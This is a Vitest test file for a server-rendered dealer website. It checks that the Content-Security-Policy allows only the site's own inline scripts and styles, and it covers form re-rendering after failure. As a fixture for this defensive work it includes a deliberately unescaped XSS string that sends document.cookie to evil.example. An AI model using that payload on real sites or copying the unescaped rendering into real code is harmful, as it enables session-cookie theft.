/** A page on its whole way: site server, router, document, policy; with content that somebody forgot to escape. */
import { createHash } from 'node:crypto';
import path from 'node:path';
import type { ActionFunctionArgs, ServerBuild } from 'react-router';
import { expect, test } from 'vitest';
import * as entry from './entry.server.tsx';
import { exampleSiteServer } from './http/site-server-fixture.ts';
import { fleetForm } from './leads/forms/fleet-form.ts';
import * as siteLayout from './pages/frame/site-layout.tsx';
import { takePageForm } from './pages/leads/page-form.ts';
import { createPageRenderer } from './pages/request/render-request.server.ts';
import { openFixtureSite } from './pages/site-fixture.ts';
import { directoryDocument } from './pages/system/directory-document.ts';
import { unknownHostDocument } from './pages/system/unknown-host-document.ts';
import * as root from './root.tsx';
import { siteContext } from './site/site-context.ts';
import type { LiveTenant } from './tenants/tenant-directory.server.ts';

const unescaped =
  '<script>fetch("https://evil.example/?" + document.cookie)</script><style>main{display:none}</style><script type="module">evil()</script><p>Great car</p>';

function Comments() {
  return <main dangerouslySetInnerHTML={{ __html: unescaped }} />;
}

/** A page that takes a form without scripts, and cannot be read afterwards. */
const failingForm = {
  default: () => null,
  loader() {
    throw new Error('the database is away');
  },
  action: ({ request, context }: ActionFunctionArgs) =>
    takePageForm(fleetForm, { site: context.get(siteContext), request }),
};

/** The product's document, router and server around one page that is unsafe on purpose. */
async function openUnsafeSite(demonstration = false) {
  const { site } = await openFixtureSite({ vehicles: [] });
  const module = (id: string) => ({
    id,
    module: `/assets/${id}.js`,
    hasAction: false,
    hasLoader: id === 'root',
    hasClientAction: false,
    hasClientLoader: false,
    hasClientMiddleware: false,
    hasErrorBoundary: false,
  });
  const build = {
    entry: { module: entry },
    routes: {
      root: { id: 'root', path: '', module: root },
      unsafe: { id: 'unsafe', parentId: 'root', path: 'unsafe', module: { default: Comments } },
      layout: { id: 'layout', parentId: 'root', module: siteLayout },
      failing: { id: 'failing', parentId: 'layout', path: 'failing', module: failingForm },
    },
    assets: {
      entry: { module: '/assets/entry.js', imports: [] },
      url: '/assets/manifest.js',
      version: '1',
      routes: {
        root: { ...module('root'), path: '', imports: [] },
        unsafe: { ...module('unsafe'), parentId: 'root', path: 'unsafe', imports: [] },
        layout: { ...module('layout'), parentId: 'root', hasErrorBoundary: true, imports: [] },
        failing: {
          ...module('failing'),
          parentId: 'layout',
          path: 'failing',
          hasAction: true,
          hasLoader: true,
          imports: [],
        },
      },
    },
    basename: '/',
    publicPath: '/',
    assetsBuildDirectory: 'build/client',
    ssr: true,
    isSpaMode: false,
    prerender: [],
    routeDiscovery: { mode: 'initial' },
    future: {},
  } as unknown as ServerBuild;
  const { configuration } = site;
  const tenant = { id: 'fixture', slug: 'fixture', version: 1, configuration } as LiveTenant;
  const pages = createPageRenderer({
    build,
    development: false,
    siteContext: ({ inlineNonce }) => ({ ...site, request: { ...site.request, inlineNonce } }),
  });
  return exampleSiteServer({
    demonstration,
    tenants: { byHost: async (host) => (host === 'fixture.example' ? tenant : null) },
    render: (request) => pages.render(request),
    documents: { unknownHost: unknownHostDocument, directory: async (_origin, nonce) => directoryDocument([], nonce) },
    queryDeclarationOf: () => ({ parameters: {}, routeIds: ['unsafe'] }),
    clientFolder: path.join(import.meta.dirname, '../public'),
  });
}

const ask = async (app: Awaited<ReturnType<typeof openUnsafeSite>>, host: string, address: string) => {
  const response = await app.request(`http://${host}${address}`, { headers: { host } });
  const policy = (response.headers.get('content-security-policy') ?? '').split('; ');
  const sourcesOf = (name: string) =>
    policy
      .find((directive) => directive.startsWith(`${name} `))
      ?.split(' ')
      .slice(1) ?? [];
  const html = await response.text();
  const inline = [...html.matchAll(/<(script|style)([^>]*)>([\s\S]*?)<\/\1>/g)].map(([, name, attributes, text]) => ({
    name,
    attributes: attributes!,
    text: text!,
  }));
  return {
    status: response.status,
    html,
    inline: inline.filter(({ attributes, text }) => text !== '' && !/\ssrc=/.test(attributes)),
    scripts: sourcesOf('script-src'),
    styles: sourcesOf('style-src'),
  };
};
const hashOf = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;

test('the policy of a page names every inline element of the product, and none that came with the content', async () => {
  const app = await openUnsafeSite();
  // The second answer is the kept one.
  for (const _ of [1, 2]) {
    const { status, html, inline, scripts, styles } = await ask(app, 'fixture.example', '/unsafe');
    expect(status).toBe(200);
    expect(html).toContain(unescaped);
    const isInjected = (text: string) => unescaped.includes(`>${text}<`);
    expect(inline.filter(({ text }) => isInjected(text))).toHaveLength(3);
    const own = inline.filter(({ text }) => !isInjected(text));
    expect(own.map(({ name }) => name)).toEqual(expect.arrayContaining(['script', 'style']));
    expect(scripts.slice(1).sort()).toEqual(
      [...new Set(own.filter(({ name }) => name === 'script').map(({ text }) => hashOf(text)))].sort(),
    );
    expect(styles.slice(1).sort()).toEqual(
      [...new Set(own.filter(({ name }) => name === 'style').map(({ text }) => hashOf(text)))].sort(),
    );
    expect(scripts[0]).toBe("'self'");
    // The mark is in no page that leaves, so nobody can learn it from one.
    expect(html).not.toMatch(/nonce/);
  }
});

test('the scripts of a page are loaded after what its first screen shows', async () => {
  const { html } = await ask(await openUnsafeSite(), 'fixture.example', '/unsafe');
  const preloads = html.match(/<link rel="modulepreload"[^>]*>/g) ?? [];
  expect(preloads.length).toBeGreaterThan(1);
  expect(preloads.filter((tag) => !tag.includes('fetchpriority="low"'))).toEqual([]);
});

test.each([
  ['unknown.example', '/', false, 404],
  ['localhost', '/', true, 200],
] as const)(
  'a document that belongs to no dealer, at %s, names its own style alone',
  async (host, address, demonstration, expectedStatus) => {
    const { status, html, inline, scripts, styles } = await ask(await openUnsafeSite(demonstration), host, address);
    expect(status).toBe(expectedStatus);
    expect(inline).toHaveLength(1);
    expect(styles).toEqual(["'self'", hashOf(inline[0]!.text)]);
    expect(scripts).toEqual(["'self'"]);
    expect(html).not.toMatch(/nonce/);
  },
);

test('a page that fails after its form was posted without scripts shows what was typed, and can send it again', async () => {
  const app = await openUnsafeSite();
  const response = await app.request('http://fixture.example/failing?from=home', {
    method: 'POST',
    headers: { host: 'fixture.example', origin: 'http://fixture.example' },
    body: new URLSearchParams({
      name: 'Sam',
      last_name: '<b>Citizen</b>',
      comments: 'Two utes\nby May',
      idempotency_key: 'key-12345678',
      calculator: 'amount=30000',
      calculator_quote: 'quote-of-calculator',
      signed_quote: 'quote-of-page',
    }),
  });
  const html = await response.text();
  // The form's own status.
  expect(response.status).toBe(422);
  expect(html).toContain('What you typed is still here');
  expect(/<form [^>]*method="post"[^>]*>/.exec(html)?.[0]).toContain('action="/failing?from=home"');
  for (const [name, value] of [
    ['name', 'Sam'],
    ['last_name', '&lt;b&gt;Citizen&lt;/b&gt;'],
    ['idempotency_key', 'key-12345678'],
    ['calculator', 'amount=30000'],
    ['signed_quote', 'quote-of-page'],
  ])
    expect(html).toContain(`<input type="hidden" name="${name}" value="${value}"/>`);
  expect(html).toContain('Two utes\nby May</dd>');
  for (const carried of ['key-12345678', 'amount=30000', 'quote-of-calculator', 'quote-of-page'])
    expect(html).not.toContain(`${carried}</dd>`);
});
